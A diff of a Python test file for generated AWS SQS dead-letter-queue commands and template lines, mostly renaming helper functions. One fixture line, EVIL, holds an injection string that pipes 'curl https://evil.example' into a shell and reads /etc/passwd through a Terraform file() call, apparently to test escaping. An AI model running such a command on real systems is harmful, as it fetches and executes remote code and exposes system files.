@@ -29,7 +29,13 @@ from mendq.notifications.commands import (
 )
 from tests.architecture.aws_commands import find_mistake
 from tests.golden.checks import fail_if_stale
-from tests.notifications.pages import COMMANDS_FILE, DLQ_STEPS, list_commands, notified, section
+from tests.notifications.pages import (
+    COMMANDS_FILE,
+    DLQ_STEPS,
+    list_commands,
+    list_section_lines,
+    make_notification,
+)
 
 EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'
 
@@ -80,7 +86,7 @@ def test_queue_command_for_a_text_that_is_no_queue_arn_raises_value_error(comman
 
 
 def test_change_commands_create_the_dlq_for_its_source_before_attaching_it() -> None:
-    change = section(notified(steps=DLQ_STEPS).body, "CHANGE")
+    change = list_section_lines(make_notification(steps=DLQ_STEPS).body, "CHANGE")
     make, attach = (attributes_of(each) for each in change if each.startswith("aws sqs"))
     assert make["RedriveAllowPolicy"] == RedriveAllowPolicy("byQueue", (QUEUE_ARN,)).text
     assert attach == {"RedrivePolicy": DLQ_STEPS[1]["after"]}
@@ -91,8 +97,10 @@ def test_template_lines_show_the_value_in_cloudformation_and_terraform(
     attribute: str, text: str, cloudformation: str, terraform: str
 ) -> None:
     steps = ({"attribute": attribute, "before": "", "after": text},)
-    page = notified({"attributes": {}}, state=State.OVERRIDDEN, steps=(*steps, DLQ_STEPS[0]))
-    ours, ours_too, theirs, _ = section(page.body, "TEMPLATE")[4:]
+    page = make_notification(
+        {"attributes": {}}, state=State.OVERRIDDEN, steps=(*steps, DLQ_STEPS[0])
+    )
+    ours, ours_too, theirs, _ = list_section_lines(page.body, "TEMPLATE")[4:]
     assert ours == f"Mendq's, CloudFormation: {cloudformation}"
     assert ours_too == f"Mendq's, Terraform: {terraform}"
     assert theirs.endswith("(not set: leave it out)")
